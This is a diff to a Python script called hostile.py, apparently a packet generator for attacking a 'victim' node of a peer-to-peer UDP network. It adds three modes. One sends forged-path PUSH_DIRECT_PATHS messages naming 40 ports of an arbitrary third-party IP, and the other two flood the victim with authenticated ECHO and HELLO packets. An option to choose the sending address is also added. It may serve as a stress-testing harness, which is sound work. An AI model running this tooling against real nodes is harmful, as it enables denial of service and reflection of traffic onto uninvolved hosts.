@@ -16,6 +16,10 @@ usage: hostile.py IP/PORT VICTIM.pub MODE ARGUMENT...
   greeting ME PROTOCOL   an authentic HELLO of ME
   trusting ME            packets of ME under suite 2, one of each verb
   flood N                HELLOs of identities that do not exist
+  pushes ME IP N         N authentic PUSH_DIRECT_PATHS of 40 ports of IP
+  echoes ME N            N authentic ECHOs of 64 bytes
+  greetings ME N         N authentic HELLOs
+In the environment: SOURCE=IP/PORT to send from
 """
 import itertools
 import os
@@ -163,11 +167,35 @@ def flood(victim, count):
                packets.hello(src, os.urandom(64)))
 
 
+def pushes(victim, me, target, count):
+    me = packets.Identity(me)
+    key = me.agree(victim)
+    ports = itertools.count(1000)
+    for _ in range(int(count)):
+        entries = [b"\0\0\0\4\6" + socket.inet_aton(target) +
+                   (next(ports) % 60000).to_bytes(2, "big") for _ in range(40)]
+        yield packets.armor(key, victim.address, me.address,
+                            b"\x10" + len(entries).to_bytes(2, "big") + b"".join(entries))
+
+
+def echoes(victim, me, count):
+    me = packets.Identity(me)
+    key = me.agree(victim)
+    for _ in range(int(count)):
+        yield packets.armor(key, victim.address, me.address, b"\x08" + bytes(64))
+
+
+def greetings(victim, me, count):
+    for _ in range(int(count)):
+        yield from greeting(victim, me, 12)
+
+
 def main():
     address, victim, mode = sys.argv[1:4]
     make = {f.__name__: f for f in (junk, forged, strangers, pieces, replayed,
-                                    mutated, bodies, messages, greeting, trusting, flood)}[mode]
-    sock = packets.udp(address)
+                                    mutated, bodies, messages, greeting, trusting, flood,
+                                    pushes, echoes, greetings)}[mode]
+    sock = packets.udp(address, os.environ.get("SOURCE"))
     sent = 0
     for datagram in make(packets.Identity(victim), *sys.argv[4:]):
         try:
